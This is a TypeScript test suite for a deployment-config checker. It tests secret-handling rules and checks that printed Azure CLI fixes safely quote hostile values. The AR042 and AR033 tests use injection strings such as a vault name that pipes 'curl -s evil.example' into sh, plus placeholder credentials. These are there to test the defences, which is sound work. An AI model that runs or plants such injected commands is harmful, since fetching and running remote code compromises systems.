// The input side of the threat model (docs/security.md, "Input-side rules"): a teammate's
// environment file in a pull request, and fixes pasted from `check` into a shell. Each test
// here failed on the code before these rules, except the "accepts"/"is quiet" guards. The
// schema and loader side is test/input-schema.test.ts.
import { execFileSync } from "child_process";
import { checkEnvironment } from "../checks";
import { keyVaultIdProblem } from "../checks/rules/ar042-key-vault-id";
import { existingCluster } from "../checks/rules/ar033-existing-cluster";
import { sh } from "../config/encode";
import { formatProblem, publicProblem, type Problem } from "../config/problems";
import { loadEnv, makeEnv, tempDir } from "./helpers";

const SUB = "7c1f4a52-3a8e-4d51-9a0b-2f6c1d0e9b41";
const KV = `/subscriptions/${SUB}/resourceGroups/rg-platform-secrets/providers/Microsoft.KeyVault/vaults/kv-acme-platform`;
const run = (patch: Record<string, unknown>): Problem[] => checkEnvironment(loadEnv(patch));
const ofRule = (problems: Problem[], id: string) => problems.filter((p) => p.rule === id);
const otlp = (o: Record<string, unknown>, extra: Record<string, unknown> = {}) => ({
  observability: { exporters: { ...extra, otlpHttp: [{ name: "a", endpoint: "https://otlp.example.com/otlp", ...o }] } },
});

describe("AR046: a '$' the collector would expand", () => {
  test.each([
    ["an endpoint path", { endpoint: "https://x.example/$DD_API_KEY" }, "observability.exporters.otlpHttp[0].endpoint", /\$DD_API_KEY, which the collector \(0\.98\) expands/],
    ["an oddly named header", { headers: { "X-Ctx": "$DD_API_KEY" } }, "observability.exporters.otlpHttp[0].headers.X-Ctx", /\$DD_API_KEY/],
    ["a header with text around it", { headers: { "X-Ctx": "ctx-$DD_API_KEY-x" } }, "observability.exporters.otlpHttp[0].headers.X-Ctx", /\$DD_API_KEY/],
    ["a lone '$' at the end", { headers: { "X-Ctx": "price$" } }, "observability.exporters.otlpHttp[0].headers.X-Ctx", /start of a variable reference/],
  ])("fails on $NAME in %s, where the Datadog key would be sent to any host", (_what, o, field, message) => {
    const problems = ofRule(run(otlp(o, { datadog: {} })), "AR046");
    expect(problems.map((p) => p.path)).toEqual([field]);
    expect(problems[0].message).toMatch(message);
    expect(problems[0].severity).toBe("error");
    expect(problems[0].fix).toMatch(/\$\$ for a literal/);
  });

  test("leaves another exporter's key as ${env:KEY} in a header to AR025, without repeating it", () => {
    const problems = run(otlp({ headers: { Authorization: "${env:A_KEY}", "X-Ctx": "${env:DD_API_KEY}" }, secretName: "otel-a", secretKeys: ["A_KEY"] }, { datadog: {} }));
    expect(ofRule(problems, "AR025").map((p) => p.path)).toEqual(["observability.exporters.otlpHttp[0].headers.X-Ctx"]);
    expect(ofRule(problems, "AR046")).toEqual([]);
  });

  test("accepts $$ (a literal '$') and ${env:KEY} with KEY the exporter's own key", () => {
    const problems = run(otlp({ endpoint: "https://x.example/a$$b", headers: { Authorization: "Bearer ${env:A_KEY}", "X-Price": "$$5" }, secretName: "otel-a", secretKeys: ["A_KEY"] }, { datadog: {} }));
    expect(problems.filter((p) => p.severity === "error")).toEqual([]);
  });

  test("is quiet when the collector is off (nothing reaches a ConfigMap)", () => {
    const patch = otlp({ endpoint: "https://x.example/$DD_API_KEY" }, { datadog: {} });
    (patch.observability as Record<string, unknown>).collector = { enabled: false };
    expect(ofRule(run(patch), "AR046")).toEqual([]);
  });
});

describe("AR024: a literal credential whatever the header is called", () => {
  test.each([
    ["X-Custom", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.x"],
    ["X-Custom", "Basic dXNlcjpwYXNz"],
    ["X-Forward", "SharedAccessSignature sr=https%3A%2F%2Fx&sig=abc&se=1"],
    ["X-Sig", "AWS4-HMAC-SHA256 Credential=AKIA/20260101/eu/s3/aws4_request"],
    ["X-Org", "hunter2hunter"],
  ])("fails on %s: %j", (header, value) => {
    const problems = ofRule(run(otlp({ headers: { [header]: value } })), "AR024");
    expect(problems.map((p) => p.path)).toEqual([`observability.exporters.otlpHttp[0].headers.${header}`]);
    for (const p of problems) expect(formatProblem(p)).not.toContain(value);
  });

  test("accepts a short tenant id and a plain word (X-Scope-OrgID: tenant1)", () => {
    expect(ofRule(run(otlp({ headers: { "X-Scope-OrgID": "tenant1", "X-Env": "production" } })), "AR024")).toEqual([]);
  });

  test("with a keyVault configured, the fix offers the exporter's keyVaultSecrets", () => {
    const [p] = ofRule(run({ keyVault: { vaultId: KV }, ...otlp({ headers: { "X-Custom": "Bearer eyJabc.def" } }) }), "AR024");
    expect(p.fix).toMatch(/keyVaultSecrets: \{ <KEY>: <secret> \}/);
    expect(p.fix).toMatch(/never enters Terraform state/);
    const [plain] = ofRule(run(otlp({ headers: { "X-Custom": "Bearer eyJabc.def" } })), "AR024");
    expect(plain.fix).not.toMatch(/keyVaultSecrets/);
  });
});

describe("AR010 and AR025 print a variable's name, never its default", () => {
  const secret = "sk-live-4f9a8b7c6d5e";

  test("AR010 on ${API_KEY:-<secret>}: message and fix name API_KEY only", () => {
    const problems = run(otlp({ headers: { Authorization: `\${API_KEY:-${secret}}` }, secretName: "otel-a", secretKeys: ["API_KEY"] }));
    const [p] = ofRule(problems, "AR010");
    expect(p.fix).toMatch(/^write \$\{env:API_KEY\} \(without the default/);
    for (const q of problems) {
      expect(formatProblem(q)).not.toContain(secret);
      expect(JSON.stringify(publicProblem(q))).not.toContain("sk-live");
    }
  });

  test("AR025 on ${env:API_KEY:-<secret>}: the name only", () => {
    const problems = run(otlp({ headers: { Authorization: `\${env:API_KEY:-${secret}}` }, secretName: "otel-a", secretKeys: ["API_KEY"] }));
    expect(ofRule(problems, "AR025")[0].fix).toBe("write ${env:API_KEY} and add API_KEY to secretKeys; deliver the value through the Secret");
    for (const q of problems) expect(formatProblem(q)).not.toContain("sk-live");
  });
});

describe("AR036: one Secret per name and namespace, for every Secret the project makes exist", () => {
  const agc = { azure: { subscriptionId: SUB }, ingress: { mode: "agc" } };
  const privateRegistry = (pullSecretName: string) => ({
    registry: { mode: "private", acrName: undefined, private: { host: "registry.acme.example.com", repository: "registry.acme.example.com/tare", pullSecretName } },
  });

  test("fails on the pull secret named like the TLS Secret (AGC, BYO certificate in tars-dataplane)", () => {
    const problems = ofRule(run({ ...agc, ...privateRegistry("tars-ingress-tls"), tls: { mode: "byo" } }), "AR036");
    expect(problems.map((p) => [p.path, p.message])).toEqual([["tls.secretName", expect.stringContaining("registry.private.pullSecretName also names: two Secrets with one name in tars-dataplane")]]);
  });

  test("fails on an otlpHttp secretName equal to tls.secretName (AGC, Key Vault certificate)", () => {
    const problems = ofRule(
      run({ ...agc, keyVault: { vaultId: KV }, tls: { mode: "key-vault", keyVault: { certificateName: "proxy-cert" } }, ...otlp({ headers: { Authorization: "${env:K}" }, secretName: "tars-ingress-tls", secretKeys: ["K"] }) }),
      "AR036",
    );
    expect(problems.map((p) => p.path)).toEqual(["tls.secretName"]);
  });

  test("accepts the pull secret named like cert-manager's Secret on AGC: that one lives in the Gateway's namespace", () => {
    const patch = { ...agc, ...privateRegistry("tars-ingress-tls"), tls: { mode: "cert-manager", certManager: { email: "ops@acme-ai.dev" } } };
    expect(ofRule(run(patch), "AR036")).toEqual([]);
  });
});

describe("printed fixes paste as the one command they show", () => {
  const bash = (script: string) => execFileSync("bash", ["-c", `az() { printf '<%s>' "$@"; }; ${script}`], { encoding: "utf8", cwd: tempDir() });

  test("AR042 never prints a hostile vault name into a command", () => {
    const hostile = "kv-acme;curl -s evil.example|sh;#";
    for (const id of [hostile, `/subscriptions/${SUB}/resourceGroups/rg/providers/Microsoft.KeyVault/vaults/${hostile}`, `/subscriptions/${SUB}/resourceGroups/rg/providers/Microsoft.KeyVault/vaults/${hostile}/secrets/x`]) {
      const fix = keyVaultIdProblem(id)!.fix;
      expect(fix).not.toContain("curl");
    }
    const fix = keyVaultIdProblem("kv-acme")!.fix;
    expect(fix).toBe("use the vault's resource ID: az keyvault show --name kv-acme --query id -o tsv");
  });

  test("sh.option never lets a value that starts with '-' be read as an option", () => {
    expect(String(sh`az x ${sh.option("-g", "rg")}`)).toBe("az x -g rg");
    expect(String(sh`az x ${sh.option("-g", "-rg(x)", "--resource-group")}`)).toBe("az x --resource-group='-rg(x)'");
    expect(bash(String(sh`az x ${sh.option("-g", "-rg; touch pwned", "--resource-group")}`))).toBe("<x><--resource-group=-rg; touch pwned>");
    expect(() => String(sh.option("-g", "-x"))).toThrow(/long form/);
  });

  test("AR033 on an existing cluster in a resource group that starts with '-': --resource-group=-rg", () => {
    const env = makeEnv({ azure: { subscriptionId: SUB }, ingress: { mode: "agc" }, cluster: { existing: { resourceGroup: "-rg(aks)" } } });
    const fix = existingCluster.check(env).find((f) => f.path === "ingress.mode")!.fix;
    expect(fix).toContain("az aks update --resource-group='-rg(aks)' -n tars-test --enable-oidc-issuer --enable-workload-identity");
  });

  test("no rule's fix prints a hostile value or a value that reads as an option into a command", () => {
    const problems = run({
      azure: { subscriptionId: SUB },
      ingress: { mode: "agc" },
      cluster: { existing: { resourceGroup: "-rg(aks)", vnetName: "vnet-aks" } },
      keyVault: { vaultId: `/subscriptions/${SUB}/resourceGroups/rg/providers/Microsoft.KeyVault/vaults/kv-acme;curl -s evil.example|sh;#` },
      tls: { mode: "key-vault", keyVault: { certificateName: "c" } },
    });
    const fixes = problems.map((p) => p.fix ?? "");
    expect(fixes.filter((f) => /\baz /.test(f)).length).toBeGreaterThanOrEqual(2);
    for (const f of fixes) {
      expect(f).not.toContain("curl");
      expect(f).not.toMatch(/ -g '?-rg/);
    }
    expect(fixes.join("\n")).toContain("az aks enable-addons --resource-group='-rg(aks)' -n tars-test");
  });
});

describe("AR047: images pinned by digest", () => {
  const collector = `otel/opentelemetry-collector-contrib:0.98.0@sha256:${"a".repeat(64)}`;
  const pause = `registry.k8s.io/pause:3.10@sha256:${"b".repeat(64)}`;

  test("warns in production on a tag-only image of a pod that reads a Secret, and not once it has a digest", () => {
    const prod = { production: true, cluster: { tier: "medium", apiServerAuthorizedIpRanges: ["203.0.113.0/24"] }, tls: { mode: "key-vault", keyVault: { certificateName: "proxy-cert" } }, keyVault: { vaultId: KV }, observability: { exporters: { datadog: {} } } };
    const tagged = ofRule(run(prod), "AR047");
    expect(tagged.map((p) => [p.path, p.severity])).toEqual([["observability.collector.image", "warning"], ["tls.keyVault.syncImage", "warning"]]);
    expect(tagged[0].fix).toContain("otel/opentelemetry-collector-contrib:0.98.0@sha256:<digest>");
    const pinned = { ...prod, tls: { mode: "key-vault", keyVault: { certificateName: "proxy-cert", syncImage: pause } }, observability: { collector: { image: collector }, exporters: { datadog: {} } } };
    expect(ofRule(run(pinned), "AR047")).toEqual([]);
    // Outside production, and for a collector that reads no Secret, it is quiet.
    expect(ofRule(run({ observability: { exporters: { datadog: {} } } }), "AR047")).toEqual([]);
  });
});
